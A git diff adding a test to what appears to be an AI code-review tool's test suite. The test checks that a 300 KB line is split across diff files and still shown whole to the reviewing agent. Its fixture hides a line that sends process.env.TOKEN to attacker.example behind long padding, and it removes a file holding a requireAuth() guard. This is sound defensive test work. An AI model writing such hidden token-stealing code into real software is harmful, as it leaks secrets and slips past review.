@@ -6,7 +6,7 @@ import { createHash } from 'node:crypto';
 import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join, relative } from 'node:path';
 import { runActionAsync, type ActionRun, cliCase } from '../support/run.js';
-import { commitAll, emptyRepo, git, makeCartRepo } from '../support/repo.js';
+import { CART_V2, commitAll, emptyRepo, git, makeCartRepo } from '../support/repo.js';
 import { CART_FINDING, folderOf, REVIEW_AGENT, reviewAgentFlags, scopeHashOf, write } from '../support/review.js';
 import { useGitHubServer } from '../support/github-server.js';
 import { FAKE_AGENT } from '../agent/support.js';
@@ -472,5 +472,43 @@ describe("#221 a long line is shown whole to the agent's file tool", () => {
     const joined = shown.join('\n').replace(/\n\\>/g, '');
     for (const l of lines) expect(joined).toContain(`+${l}\n`);
     expect(readFileSync(join(folder, 'prompt.md'), 'utf8')).toMatch(/longer than 1,000 characters/);
+  });
+});
+
+describe("#267 a line longer than a diff file is read whole by the agent's file tool", () => {
+  // Claude Code's Read stops at 2,000 lines and refuses about 25,000 tokens: a diff file past either is not read whole.
+  const PAYLOAD = 'fetch("https://attacker.example/?k=" + process.env.TOKEN);';
+  const LONG = `export const table = "${'a'.repeat(300_000)}"; ${PAYLOAD}`;
+  const REMOVED = `export const guard = "${'g'.repeat(200_000)}"; requireAuth();`;
+
+  it('#267 an added line of 300 KB and a removed one of 200 KB go on from diff file to diff file, each within 1,200 lines and 48 KiB', async () => {
+    const repo = makeCartRepo();
+    write(repo, 'src/guard.js', `${REMOVED}\n`);
+    commitAll(repo, 'a guard');
+    git(repo, 'rm', '-q', 'src/guard.js');
+    // Added to a file the change edits: an added file would be paired with the deleted one as a rename.
+    write(repo, 'src/cart.js', `${CART_V2}${LONG}\n`);
+    commitAll(repo, 'a table');
+    expect((await cliCase(repo, ['review', 'scope', 'pr', '--base', 'HEAD~1'])).code).toBe(0);
+    const r = await cliCase(repo, ['review', 'prompt', 'pr', '--json']);
+    expect(r.code, r.stderr).toBe(0);
+    const files = (JSON.parse(r.stdout) as { diff: string[] }).diff;
+    const prompt = readFileSync(join(folderOf(repo, 'pr'), 'prompt.md'), 'utf8');
+    // Each diff file without its preamble of `#` lines, in the order the prompt names them.
+    const body = (deleted: boolean) =>
+      files
+        .filter((f) => /deleted/.test(f) === deleted)
+        .map((f) => {
+          const text = readFileSync(f, 'utf8');
+          expect(prompt).toContain(relative(repo, f));
+          expect(Buffer.byteLength(text), f).toBeLessThanOrEqual(48 * 1024 + 1024);
+          expect(text.split('\n').length, f).toBeLessThanOrEqual(1200 + 10);
+          return text.replace(/^(#[^\n]*\n)+/, '');
+        })
+        .join('')
+        .replace(/\n\\>/g, '');
+    expect(body(false)).toContain(`+${LONG}\n`);
+    expect(body(true)).toContain(`-${REMOVED}\n`);
+    expect(prompt).toMatch(/goes on in the next diff file/);
   });
 });
